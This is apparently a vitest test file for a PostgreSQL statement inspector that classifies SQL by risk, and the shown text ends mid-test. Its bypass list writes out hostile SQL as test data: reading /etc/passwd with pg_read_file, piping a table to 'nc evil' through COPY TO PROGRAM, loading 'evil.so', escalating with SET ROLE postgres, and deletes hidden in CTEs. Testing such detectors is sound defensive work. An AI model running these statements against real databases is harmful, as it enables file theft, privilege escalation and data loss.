import { beforeAll, describe, expect, it } from 'vitest';
import { inspectSql, withPreparedFacts } from '../../../src/inspect/sql/inspect.js';
import { loadSqlParser } from '../../../src/inspect/sql/parser.js';
import { compact, expectStatements, statementsOf, type Expected } from './support.js';

beforeAll(async () => {
  await loadSqlParser();
});

/**
 * Bypass attempts: each must come out as what it really does — never a pure `read` with
 * no tables and no flags. The suite only grows.
 */
const BYPASSES: ReadonlyArray<readonly [string, Expected]> = [
  ['WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x',
    { kind: 'select', class: 'write', tables: ['t:w'], flags: ['delete_without_where'] }],
  ['WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x',
    { kind: 'select', class: 'write', tables: ['t:w'], flags: ['update_without_where'] }],
  ['WITH x AS (INSERT INTO t VALUES (1) RETURNING *) INSERT INTO u SELECT * FROM x',
    { kind: 'insert', class: 'write', tables: ['t:w', 'u:w'] }],
  ['SELECT * FROM (SELECT 1) s WHERE EXISTS (WITH d AS (DELETE FROM t RETURNING 1) SELECT 1 FROM d)',
    { kind: 'select', class: 'write', tables: ['t:w'], flags: ['delete_without_where'] }],
  ['COPY (DELETE FROM t RETURNING *) TO STDOUT',
    { kind: 'copy', class: 'write', tables: ['t:w'], flags: ['delete_without_where'] }],
  ['EXPLAIN ANALYZE DELETE FROM t',
    { kind: 'explain', class: 'write', tables: ['t:w'], flags: ['delete_without_where', 'explain_analyze'] }],
  ['EXPLAIN (ANALYZE) DELETE FROM t WHERE a = 1',
    { kind: 'explain', class: 'write', tables: ['t:w'], flags: ['explain_analyze'] }],
  ['EXPLAIN (ANALYZE true, FORMAT JSON) DELETE FROM t WHERE a = 1',
    { kind: 'explain', class: 'write', tables: ['t:w'], flags: ['explain_analyze'] }],
  ["EXPLAIN (ANALYZE 'perhaps') DELETE FROM t WHERE a = 1", // not clearly off: counts as on
    { kind: 'explain', class: 'write', tables: ['t:w'], flags: ['explain_analyze'] }],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE',
    { kind: 'merge', class: 'write', tables: ['t:w', 's:r'] }],
  ['SELECT * INTO newt FROM t',
    { kind: 'select', class: 'ddl', tables: ['newt:w', 't:r'] }],
  ['SELECT * INTO newt FROM t UNION SELECT * FROM u',
    { kind: 'select', class: 'ddl', tables: ['newt:w', 't:r', 'u:r'] }],
  ['CREATE TABLE x AS SELECT * FROM t',
    { kind: 'create_table_as', class: 'ddl', tables: ['x:w', 't:r'] }],
  ['CREATE MATERIALIZED VIEW mv AS SELECT * FROM t',
    { kind: 'create_table_as', class: 'ddl', tables: ['mv:w', 't:r'] }],
  ['PREPARE p AS DELETE FROM t',
    { kind: 'prepare', class: 'write', tables: ['t:w'], flags: ['delete_without_where'] }],
  ['PREPARE p(int) AS UPDATE t SET a = $1 WHERE id = 1',
    { kind: 'prepare', class: 'write', tables: ['t:w'] }],
  ["DO $$BEGIN EXECUTE 'DELETE FROM t'; END$$",
    { kind: 'do', class: 'admin', flags: ['dynamic_sql'] }],
  ["DO $$BEGIN EXECUTE format('DELETE FROM %I', 't'); END$$",
    { kind: 'do', class: 'admin', functions: ['format'], flags: ['dynamic_sql'] }],
  ['DO $$DECLARE r record; q text := $q$SELECT 1$q$; BEGIN FOR r IN EXECUTE q LOOP END LOOP; END$$',
    { kind: 'do', class: 'admin', flags: ['dynamic_sql'] }],
  ["DO $$DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT 1'; END$$",
    { kind: 'do', class: 'admin', flags: ['dynamic_sql'] }],
  ["CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$BEGIN RETURN QUERY EXECUTE 'SELECT 1'; END$$",
    { kind: 'create_function', class: 'admin', flags: ['dynamic_sql'] }],
  ['DO $$BEGIN DELETE FROM t; END$$',
    { kind: 'do', class: 'write', tables: ['t:w'], flags: ['delete_without_where'] }],
  ['DO $o$BEGIN DO $i$BEGIN DELETE FROM t WHERE a = 1; END$i$; END$o$',
    { kind: 'do', class: 'write', tables: ['t:w'] }],
  ['DO $$DECLARE x int; BEGIN x := nextval($q$s$q$); END$$',
    { kind: 'do', class: 'write', functions: ['nextval'], flags: ['dangerous_function'] }],
  ["DO $$DECLARE a int[]; BEGIN a[pg_read_file('x')::int] := 1; END$$", // a call hidden in an assignment target
    { kind: 'do', class: 'admin', functions: ['pg_read_file'], flags: ['dangerous_function'] }],
  ['DO $$DECLARE n int := (SELECT count(*) FROM secrets); BEGIN RAISE NOTICE $m$%$m$, n; END$$',
    { kind: 'do', class: 'read', tables: ['secrets:r'], functions: ['count'] }],
  ['DO $$BEGIN IF EXISTS (SELECT 1 FROM t) THEN PERFORM pg_terminate_backend(1); END IF; END$$',
    { kind: 'do', class: 'admin', tables: ['t:r'], functions: ['pg_terminate_backend'], flags: ['dangerous_function'] }],
  ['DO LANGUAGE plpython3u $$import os$$',
    { kind: 'do', class: 'admin', flags: ['dynamic_sql'] }],
  ['DELETE FROM U&"\\0074"',
    { kind: 'delete', class: 'write', tables: ['t:w'], flags: ['delete_without_where'] }],
  ['DELETE FROM U&"d\\0061t\\+000061" WHERE true',
    { kind: 'delete', class: 'write', tables: ['data:w'] }],
  ['DELETE FROM "T"."Secrets" WHERE true',
    { kind: 'delete', class: 'write', tables: ['T.Secrets:w'] }],
  ["SELECT set_config('role','postgres',false)",
    { kind: 'select', class: 'admin', functions: ['set_config'], flags: ['dangerous_function', 'parse_relevant_setting'] }],
  ["SELECT pg_catalog.set_config('SESSION_AUTHORIZATION', 'x', true)",
    { kind: 'select', class: 'admin', functions: ['pg_catalog.set_config'], flags: ['dangerous_function', 'parse_relevant_setting'] }],
  ["SELECT set_config(new_value => 'x', setting_name => 'search_path', is_local => false)",
    { kind: 'select', class: 'admin', functions: ['set_config'], flags: ['dangerous_function', 'parse_relevant_setting'] }],
  ["SELECT set_config(name, 'x', false) FROM settings", // not a constant: fail closed
    { kind: 'select', class: 'admin', tables: ['settings:r'], functions: ['set_config'], flags: ['dangerous_function', 'parse_relevant_setting'] }],
  ["SELECT set_config($1, $2, false)",
    { kind: 'select', class: 'admin', functions: ['set_config'], flags: ['dangerous_function', 'parse_relevant_setting'] }],
  ["SELECT set_config('client_encoding', 'SJIS', false)",
    { kind: 'select', class: 'admin', functions: ['set_config'], flags: ['dangerous_function', 'parse_relevant_setting'] }],
  ["SELECT pg_catalog.pg_read_file('/etc/passwd')",
    { kind: 'select', class: 'admin', functions: ['pg_catalog.pg_read_file'], flags: ['dangerous_function'] }],
  [`SELECT "pg_read_file"('x')`,
    { kind: 'select', class: 'admin', functions: ['pg_read_file'], flags: ['dangerous_function'] }],
  ["SELECT public.PG_READ_FILE('x')",
    { kind: 'select', class: 'admin', functions: ['public.pg_read_file'], flags: ['dangerous_function'] }],
  [`SELECT "PG_READ_FILE"('x')`, // a different (user) function, but matched case-insensitively to be safe
    { kind: 'select', class: 'admin', functions: ['PG_READ_FILE'], flags: ['dangerous_function'] }],
  [`SELECT U&"pg\\005fread\\005ffile"('x')`, // identifier escapes are resolved by the parser
    { kind: 'select', class: 'admin', functions: ['pg_read_file'], flags: ['dangerous_function'] }],
  [`SELECT "pg_catalog" . "pg_read_file" /* x */ ('x')`,
    { kind: 'select', class: 'admin', functions: ['pg_catalog.pg_read_file'], flags: ['dangerous_function'] }],
  ["SELECT x FROM pg_ls_dir('/') AS x",
    { kind: 'select', class: 'admin', functions: ['pg_ls_dir'], flags: ['dangerous_function'] }],
  ["SELECT * FROM ROWS FROM (pg_catalog.pg_ls_dir('.')) AS d",
    { kind: 'select', class: 'admin', functions: ['pg_catalog.pg_ls_dir'], flags: ['dangerous_function'] }],
  ["SELECT count(*) FILTER (WHERE pg_read_file('x') = '') FROM t",
    { kind: 'select', class: 'admin', tables: ['t:r'], functions: ['count', 'pg_read_file'], flags: ['dangerous_function'] }],
  ["SELECT lo_import('/etc/passwd')",
    { kind: 'select', class: 'admin', functions: ['lo_import'], flags: ['dangerous_function'] }],
  ["SELECT lo_export(1, '/tmp/x')",
    { kind: 'select', class: 'admin', functions: ['lo_export'], flags: ['dangerous_function'] }],
  ['SELECT lo_unlink(1)',
    { kind: 'select', class: 'write', functions: ['lo_unlink'], flags: ['dangerous_function'] }],
  ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
    { kind: 'select', class: 'admin', tables: ['pg_stat_activity:r'], functions: ['pg_terminate_backend'], flags: ['dangerous_function'] }],
  ['SELECT pg_cancel_backend(1), pg_reload_conf()',
    { kind: 'select', class: 'admin', functions: ['pg_cancel_backend', 'pg_reload_conf'], flags: ['dangerous_function'] }],
  ["SELECT nextval('s')",
    { kind: 'select', class: 'write', functions: ['nextval'], flags: ['dangerous_function'] }],
  ["SELECT setval('s', 1)",
    { kind: 'select', class: 'write', functions: ['setval'], flags: ['dangerous_function'] }],
  ['SELECT txid_current()',
    { kind: 'select', class: 'write', functions: ['txid_current'], flags: ['dangerous_function'] }],
  ['SELECT pg_advisory_lock(1)',
    { kind: 'select', class: 'session', functions: ['pg_advisory_lock'], flags: ['dangerous_function'] }],
  ["SELECT pg_notify('c', 'x')",
    { kind: 'select', class: 'session', functions: ['pg_notify'], flags: ['dangerous_function'] }],
  ["SELECT * FROM dblink('dbname=x', 'DELETE FROM t') AS t(x int)",
    { kind: 'select', class: 'admin', functions: ['dblink'], flags: ['dynamic_sql', 'dangerous_function'] }],
  ["SELECT dblink_exec('DELETE FROM t')",
    { kind: 'select', class: 'admin', functions: ['dblink_exec'], flags: ['dynamic_sql', 'dangerous_function'] }],
  ["SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')",
    { kind: 'select', class: 'admin', functions: ['query_to_xml'], flags: ['dynamic_sql', 'dangerous_function'] }],
  ["SELECT table_to_xml('secrets', true, true, '')",
    { kind: 'select', class: 'admin', functions: ['table_to_xml'], flags: ['dangerous_function'] }],
  ["SELECT * FROM ts_stat('DELETE FROM t RETURNING v')",
    { kind: 'select', class: 'admin', functions: ['ts_stat'], flags: ['dynamic_sql', 'dangerous_function'] }],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM t RETURNING 1 $$',
    { kind: 'create_function', class: 'ddl', tables: ['t:w'], flags: ['delete_without_where'] }],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t WHERE a = 1; SELECT 1; END',
    { kind: 'create_function', class: 'ddl', tables: ['t:w'] }],
  ["CREATE FUNCTION f() RETURNS text LANGUAGE sql RETURN pg_read_file('x')",
    { kind: 'create_function', class: 'admin', functions: ['pg_read_file'], flags: ['dangerous_function'] }],
  ["CREATE FUNCTION f(a text DEFAULT pg_read_file('x')) RETURNS int LANGUAGE sql AS 'SELECT 1'",
    { kind: 'create_function', class: 'admin', functions: ['pg_read_file'], flags: ['dangerous_function'] }],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$BEGIN UPDATE t SET a = 1; RETURN 1; END$$',
    { kind: 'create_function', class: 'ddl', tables: ['t:w'], flags: ['update_without_where'] }],
  ["CREATE FUNCTION f() RETURNS int AS 'evil.so', 'f' LANGUAGE c",
    { kind: 'create_function', class: 'admin', flags: ['dynamic_sql'] }],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE plperlu AS 'system(1)'",
    { kind: 'create_function', class: 'admin', flags: ['dynamic_sql'] }],
  ["COPY t FROM PROGRAM 'id'",
    { kind: 'copy', class: 'admin', tables: ['t:w'], flags: ['copy_server_side'] }],
  ["COPY t TO PROGRAM 'nc evil 1'",
    { kind: 'copy', class: 'admin', tables: ['t:r'], flags: ['copy_server_side'] }],
  ["COPY t TO '/tmp/x'",
    { kind: 'copy', class: 'admin', tables: ['t:r'], flags: ['copy_server_side'] }],
  ["COPY (SELECT * FROM t) TO '/tmp/x'",
    { kind: 'copy', class: 'admin', tables: ['t:r'], flags: ['copy_server_side'] }],
  ['ALTER SYSTEM SET x = 1', { kind: 'alter_system', class: 'admin' }],
  ['SET ROLE postgres', { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ['SET LOCAL ROLE postgres', { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ['RESET ROLE', { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ['SET ROLE NONE', { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ["SET SESSION AUTHORIZATION 'postgres'", { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ['RESET SESSION AUTHORIZATION', { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ['RESET ALL', { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ['DISCARD ALL', { kind: 'discard', class: 'admin', flags: ['parse_relevant_setting'] }],
  ['SET standard_conforming_strings = off', { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ['SET standard_conforming_strings TO DEFAULT', { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ['SET backslash_quote = on', { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ["SET client_encoding = 'SJIS'", { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ["SET NAMES 'LATIN1'", { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ['SET client_encoding TO DEFAULT', { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ['RESET client_encoding', { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ['SET search_path = evil, public', { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ["SET SCHEMA 'evil'", { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ['SET "Search_Path" = evil', { kind: 'variable_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ['SET session_replication_role = replica', { kind: 'variable_set', class: 'admin' }],
  ['ALTER ROLE agent SET search_path = evil', { kind: 'alter_role_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ["ALTER DATABASE app SET client_encoding = 'SJIS'",
    { kind: 'alter_database_set', class: 'admin', flags: ['parse_relevant_setting'] }],
  ["UPDATE pg_settings SET setting = 'evil' WHERE name = 'search_path'",
    { kind: 'update', class: 'admin', tables: ['pg_settings:w'], flags: ['parse_relevant_setting'] }],
  ["WITH s AS (UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings' RETURNING 1) SELECT 1",
    { kind: 'select', class: 'admin', tables: ['pg_catalog.pg_settings:w'], flags: ['parse_relevant_setting'] }],
  ['SELECT * FROM pg_hba_file_rules()',
    { kind: 'select', class: 'admin', functions: ['pg_hba_file_rules'], flags: ['dangerous_function'] }],
  ['UPDATE t SET a = 1', { kind: 'update', class: 'write', tables: ['t:w'], flags: ['update_without_where'] }],
  ['DELETE FROM t', { kind: 'delete', class: 'write', tables: ['t:w'], flags: ['delete_without_where'] }],
  ['SELECT * FROM t FOR UPDATE', { kind: 'select', class: 'write', tables: ['t:w'] }],
  ['SELECT * FROM t JOIN u USING (id) FOR SHARE OF t', { kind: 'select', class: 'write', tables: ['t:w', 'u:w'] }],
  ['WITH t AS (SELECT 1) DELETE FROM t', // a DML target is never a CTE
    { kind: 'delete', class: 'write', tables: ['t:w'], flags: ['delete_without_where'] }],
  ['WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets', // the CTE body reads the real table
    { kind: 'select', class: 'read', tables: ['secrets:r'] }],
  ['WITH c AS (SELECT 1) SELECT * FROM c, public.c', // qualified: a table
    { kind: 'select', class: 'read', tables: ['public.c:r'] }],
  ['SELECT (WITH d AS (SELECT 1) SELECT * FROM d), (SELECT * FROM d)', // CTE scope ends with its query
    { kind: 'select', class: 'read', tables: ['d:r'] }],
  ['WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a', // no forward references without RECURSIVE
    { kind: 'select', class: 'read', tables: ['b:r'] }],
  ['CALL do_things(1)', { kind: 'call', class: 'write', functions: ['do_things'] }],
  ["PREPARE TRANSACTION 'x'", { kind: 'transaction', class: 'admin' }],
  ["COMMIT PREPARED 'x'", { kind: 'transaction', class: 'admin' }],
  ['EXPLAIN SELECT pg_read_file($$x$$)', // not run, but dangerous calls still count
    { kind: 'explain', class: 'admin', functions: ['pg_read_file'], flags: ['dangerous_function'] }],
  ['CREATE VIEW v AS SELECT pg_read_file($$x$$)',
    { kind: 'view', class: 'admin', tables: ['v:w'], functions: ['pg_read_file'], flags: ['dangerous_function'] }],
  ['CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u',
    { kind: 'rule', class: 'ddl', tables: ['t:w', 'u:w'], flags: ['delete_without_where'] }],
  ['GRANT admin TO agent', { kind: 'grant_role', class: 'admin' }],
  ['CREATE EXTENSION dblink', { kind: 'create_extension', class: 'admin' }],
  ['CREATE ROLE r SUPERUSER', { kind: 'create_role', class: 'admin' }],
  ["LOAD 'evil'", { kind: 'load', class: 'admin' }],
  ['VACUUM FULL t', { kind: 'vacuum', class: 'admin', tables: ['t:w'] }],
  ['CHECKPOINT', { kind: 'check_point', class: 'admin' }],
];

/** False-positive guards and ordinary statements. */
const ORDINARY: ReadonlyArray<readonly [string, Expected]> = [
  ['SELECT 1', { kind: 'select', class: 'read' }],
  ['SELECT a.b.c(1)', { kind: 'select', class: 'read', functions: ['b.c'] }], // catalog.schema.function
  ["SELECT 'a'';DELETE FROM t'", { kind: 'select', class: 'read' }],
  ['SELECT $$;DELETE FROM t$$', { kind: 'select', class: 'read' }],
  ['SELECT $x$;DELETE FROM t$x$', { kind: 'select', class: 'read' }],
  ["SELECT E'\\';DELETE FROM t'", { kind: 'select', class: 'read' }],
  ["SELECT U&'\\0027;DELETE FROM t'", { kind: 'select', class: 'read' }],
  ['SELECT 1 /* nested /* comment */ ; DELETE */', { kind: 'select', class: 'read' }],
  ['SELECT 1 -- ; DELETE FROM t', { kind: 'select', class: 'read' }],
  ['SELECT "delete" FROM t', { kind: 'select', class: 'read', tables: ['t:r'] }],
  ['SELECT * FROM "delete"', { kind: 'select', class: 'read', tables: ['delete:r'] }],
  ['SELECT * FROM (SELECT * FROM t) s JOIN u ON true', { kind: 'select', class: 'read', tables: ['t:r', 'u:r'] }],
  ['WITH c AS (SELECT * FROM t) SELECT * FROM c', { kind: 'select', class: 'read', tables: ['t:r'] }],
  ['WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r',
    { kind: 'select', class: 'read' }],
  ['SELECT * FROM s.t AS a LEFT JOIN LATERAL (SELECT * FROM u WHERE u.id = a.id) b ON true',
    { kind: 'select', class: 'read', tables: ['s.t:r', 'u:r'] }],
  ['SELECT * FROM t WHERE a IN (SELECT b FROM u WHERE c = ANY (SELECT d FROM v))',
    { kind: 'select', class: 'read', tables: ['t:r', 'u:r', 'v:r'] }],
  ['SELECT 1 UNION SELECT a FROM t INTERSECT SELECT b FROM u', { kind: 'select', class: 'read', tables: ['t:r', 'u:r'] }],
  ['TABLE t', { kind: 'select', class: 'read', tables: ['t:r'] }],
  ["VALUES (1, 'a'), (2, lower('B'))", { kind: 'select', class: 'read', functions: ['lower'] }],
  ['SELECT count(*), now(), pg_sleep(0) FROM t', { kind: 'select', class: 'read', tables: ['t:r'], functions: ['count', 'now', 'pg_sleep'] }],
  ["SELECT current_setting('role')", { kind: 'select', class: 'read', functions: ['current_setting'] }],
  ["SELECT set_config('application_name', 'x', false)",
    { kind: 'select', class: 'session', functions: ['set_config'], flags: ['dangerous_function'] }],
  ["SELECT trim(both 'x' from 'y'), 1 + 2, a OPERATOR(pg_catalog.+) 1 FROM t", // operators are not functions
    { kind: 'select', class: 'read', tables: ['t:r'], functions: ['pg_catalog.btrim'] }],
  ['SELECT * FROM t TABLESAMPLE SYSTEM (10)', { kind: 'select', class: 'read', tables: ['t:r'] }],
  ['SHOW search_path', { kind: 'variable_show', class: 'read' }],
  ['EXPLAIN DELETE FROM t', { kind: 'explain', class: 'read', tables: ['t:r'] }],
  ['EXPLAIN (ANALYZE false) DELETE FROM t', { kind: 'explain', class: 'read', tables: ['t:r'] }],
  ['EXPLAIN (ANALYZE off, VERBOSE) UPDATE t SET a = 1', { kind: 'explain', class: 'read', tables: ['t:r'] }],
  ['EXPLAIN (ANALYZE 0) DELETE FROM t', { kind: 'explain', class: 'read', tables: ['t:r'] }],
  ['EXPLAIN SELECT * INTO newt FROM t', { kind: 'explain', class: 'read', tables: ['newt:r', 't:r'] }],
  ['EXPLAIN ANALYZE SELECT * FROM t', { kind: 'explain', class: 'read', tables: ['t:r'], flags: ['explain_analyze'] }],
  ['COPY t TO STDOUT', { kind: 'copy', class: 'read', tables: ['t:r'] }],
  ['COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)', { kind: 'copy', class: 'read', tables: ['t:r'] }],
  ['COPY t FROM STDIN', { kind: 'copy', class: 'write', tables: ['t:w'] }],
  ['INSERT INTO t (a) VALUES (1)', { kind: 'insert', class: 'write', tables: ['t:w'] }],
  ['INSERT INTO t SELECT * FROM u ON CONFLICT (a) DO UPDATE SET b = (SELECT 1 FROM v)',
    { kind: 'insert', class: 'write', tables: ['t:w', 'u:r', 'v:r'] }],
  ['UPDATE t SET a = u.a FROM u WHERE t.id = u.id', { kind: 'update', class: 'write', tables: ['t:w', 'u:r'] }],
  ['UPDATE t SET a = 1 WHERE CURRENT OF c', { kind: 'update', class: 'write', tables: ['t:w'] }],
  ['DELETE FROM t USING u WHERE t.id = u.id', { kind: 'delete', class: 'write', tables: ['t:w', 'u:r'] }],
  ['MERGE INTO t USING (SELECT * FROM s) src ON t.id = src.id WHEN NOT MATCHED THEN INSERT VALUES (src.id)',
    { kind: 'merge', class: 'write', tables: ['t:w', 's:r'] }],
  ['TRUNCATE t, s.u', { kind: 'truncate', class: 'write', tables: ['t:w', 's.u:w'] }],
  ['LOCK TABLE t IN ACCESS SHARE MODE', { kind: 'lock', class: 'write', tables: ['t:w'] }],
  ['REFRESH MATERIALIZED VIEW mv', { kind: 'refresh_mat_view', class: 'write', tables: ['mv:w'] }],
  ['PREPARE q AS SELECT * FROM t WHERE id = $1', { kind: 'prepare', class: 'read', tables: ['t:r'] }],
  ['DEALLOCATE ALL', { kind: 'deallocate', class: 'read' }],
  ['DECLARE c CURSOR FOR SELECT * FROM t', { kind: 'declare_cursor', class: 'read', tables: ['t:r'] }],
  ['FETCH 10 FROM c', { kind: 'fetch', class: 'read' }],
  ['CLOSE c', { kind: 'close_portal', class: 'read' }],
  ['BEGIN', { kind: 'transaction', class: 'transaction' }],
  ['START TRANSACTION READ ONLY', { kind: 'transaction', class: 'transaction' }],
  ['COMMIT', { kind: 'transaction', class: 'transaction' }],
  ['ROLLBACK TO SAVEPOINT a', { kind: 'transaction', class: 'transaction' }],
  ['SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', { kind: 'variable_set', class: 'transaction' }],
  ['SET CONSTRAINTS ALL DEFERRED', { kind: 'constraints_set', class: 'transaction' }],
  ["SET application_name = 'agent'", { kind: 'variable_set', class: 'session' }],
  ["SET statement_timeout = '5s'", { kind: 'variable_set', class: 'session' }],
  ["SET client_encoding = 'UTF8'", { kind: 'variable_set', class: 'session' }],
  ["SET NAMES 'utf-8'", { kind: 'variable_set', class: 'session' }],
  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY', { kind: 'variable_set', class: 'session' }],
  ['DISCARD PLANS', { kind: 'discard', class: 'session' }],
  ['LISTEN ch', { kind: 'listen', class: 'session' }],
  ["NOTIFY ch, 'x'", { kind: 'notify', class: 'session' }],
  ['DO $$BEGIN PERFORM 1; END$$', { kind: 'do', class: 'read' }],
  ['DO $$BEGIN COMMIT; END$$', { kind: 'do', class: 'transaction' }],
  ['CREATE TABLE t (a int DEFAULT 1, b int REFERENCES other (id))', { kind: 'create', class: 'ddl', tables: ['t:w', 'other:w'] }],
  ['CREATE INDEX ON t (a)', { kind: 'index', class: 'ddl', tables: ['t:w'] }],
  ['ALTER TABLE s.t ADD COLUMN c int', { kind: 'alter_table', class: 'ddl', tables: ['s.t:w'] }],
  ['DROP TABLE a, s.b', { kind: 'drop', class: 'ddl', tables: ['a:w', 's.b:w'] }],
  ['DROP FUNCTION f(int)', { kind: 'drop', class: 'ddl' }],
  ["COMMENT ON TABLE t IS 'x'", { kind: 'comment', class: 'ddl' }],
  ['GRANT SELECT ON t TO bob', { kind: 'grant', class: 'ddl', tables: ['t:w'] }],
  ['ALTER FUNCTION f() SET search_path = pg_catalog', { kind: 'alter_function', class: 'ddl' }],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql SET search_path = pg_catalog AS $$BEGIN RETURN 1; END$$',
    { kind: 'create_function', class: 'ddl' }],
  ['CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', { kind: 'create_trig', class: 'ddl', tables: ['t:w'] }],
];

describe('inspectSql: bypass attempts are seen for what they are', () => {
  it.each(BYPASSES)('%s', (sql, expected) => {
    expectStatements(sql, [expected]);
    const [facts] = statementsOf(sql);
    const innocent = facts?.class === 'read' && facts.tables.length === 0 && facts.flags.length === 0;
    expect(innocent).toBe(false);
  });
});

describe('inspectSql: ordinary statements and false-positive guards', () => {
  it.each(ORDINARY)('%s', (sql, expected) => {
    expectStatements(sql, [expected]);
  });
});

describe('inspectSql: multi-statement text', () => {
  it('gives each statement its own facts and text', () => {
    const statements = statementsOf('SELECT 1; DELETE FROM t');
    expect(statements.map(compact)).toEqual([
      { kind: 'select', class: 'read', tables: [], functions: [], flags: [] },
      { kind: 'delete', class: 'write', tables: ['t:w'], functions: [], flags: ['delete_without_where'] },
    ]);
    expect(statements.map((s) => s.text)).toEqual(['SELECT 1', 'DELETE FROM t']);
  });

  it('slices statement texts by byte offsets when multi-byte characters come first', () => {
    const statements = statementsOf("SELECT 'é'; DELETE FROM t; SELECT '😀' AS \"ü\";SELECT 2");
    expect(statements.map((s) => s.text)).toEqual(["SELECT 'é'", 'DELETE FROM t', `SELECT '😀' AS "ü"`, 'SELECT 2']);
    expect(statements[1]?.class).toBe('write');
  });

  it('finds a second statement behind literals, comments and identifiers only where it really is', () => {
    const sql = `SELECT 'x;' AS "a;b" /* ; */ -- ;\n; UPDATE t SET a = $$;$$ WHERE id = 1`;
    const statements = statementsOf(sql);
    expect(statements.map((s) => s.kind)).toEqual(['select', 'update']);
    expect(statements[1]?.text).toBe('UPDATE t SET a = $$;$$ WHERE id = 1');
  });

  it('skips empty statements', () => {
    expect(statementsOf('SELECT 1;;SELECT 2;').map((s) => s.text)).toEqual(['SELECT 1', 'SELECT 2']);
  });

  it('treats empty, blank and comment-only text as no statements', () => {
    for (const sql of ['', '   ', '-- nothing', ';;', '/* x */']) {
      expect(inspectSql(sql), JSON.stringify(sql)).toEqual({ ok: true, statements: [] });
    }
  });
});

describe('inspectSql: fails closed', () => {
  it('reports text the parser rejects with message and position', () => {
    expect(inspectSql('SELEC 1')).toEqual({ ok: false, error: 'syntax error at or near "SELEC"', position: 0 });
    const r = inspectSql('SELECT 1; DELETE FROM');
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.position).toBe(21);
  });

  it('reports positions as string indexes, also after multi-byte characters', () => {
    const sql = "SELECT '😀é' FROM WHERE";
    const r = inspectSql(sql);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(sql.slice(r.position)).toBe('WHERE');
  });

  it('refuses text with a NUL or a lone surrogate (the C parser would see something else)', () => {
    expect(inspectSql('SELECT 1\u0000; DELETE FROM t')).toMatchObject({ ok: false, position: 8 });
    expect(inspectSql("SELECT '\uD800'; DELETE FROM t")).toMatchObject({ ok: false, position: 8 });
  });

  it('marks a PL/pgSQL body it cannot compile as unknown', () => {
    // libpg_query has no catalog, so %ROWTYPE fields are unknown to it: fail closed.
    const [facts] = statementsOf('DO $$DECLARE r t%ROWTYPE; BEGIN r.a := 1; END$$');
    expect(facts?.class).toBe('unknown');
    expect(facts?.notes?.some((n) => n.includes('could not be parsed'))).toBe(true);
  });

  it('marks an unparseable SQL function body as unknown', () => {
    const [facts] = statementsOf("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELEC 1'");
    expect(facts?.class).toBe('unknown');
  });

  it('handles deep expressions, and refuses one too deep to walk instead of guessing', () => {
    const deep = (n: number): string => `SELECT ${'1 + '.repeat(n)}pg_read_file('x')::int`;
    expect(statementsOf(deep(1000))[0]?.class).toBe('admin');
    const r = inspectSql(deep(20000));
    // Whichever gives up first (parser or walker), it is never a silent pass.
    if (r.ok) expect(r.statements[0]?.class).toBe('admin');
    else expect(r.error).toMatch(/nested too deeply|stack depth/);
  });

  it('stops inspecting bodies nested too deeply', () => {
    let sql = 'DELETE FROM t';
    for (let i = 0; i < 10; i++) sql = `DO $q${i}$BEGIN ${sql}; END$q${i}$`;
    const [facts] = statementsOf(sql);
    expect(facts?.class).toBe('unknown');
  });
});

describe('inspectSql: prepared statements', () => {
  it('EXECUTE is unknown by itself and names what it runs', () => {
    const [facts] = statementsOf('EXECUTE p');
    expect(facts).toMatchObject({ kind: 'execute', class: 'unknown', preparedName: 'p', classWithoutPrepared: 'read' });
  });

  it('EXECUTE parameters are inspected too', () => {
    const [facts] = statementsOf("EXECUTE p(pg_read_file('x'))");
    expect(facts).toMatchObject({ class: 'unknown', preparedName: 'p', classWithoutPrepared: 'admin' });
    expect(facts?.flags).toEqual(['dangerous_function']);
  });

  it('EXECUTE nested in CREATE TABLE AS or EXPLAIN names it too', () => {
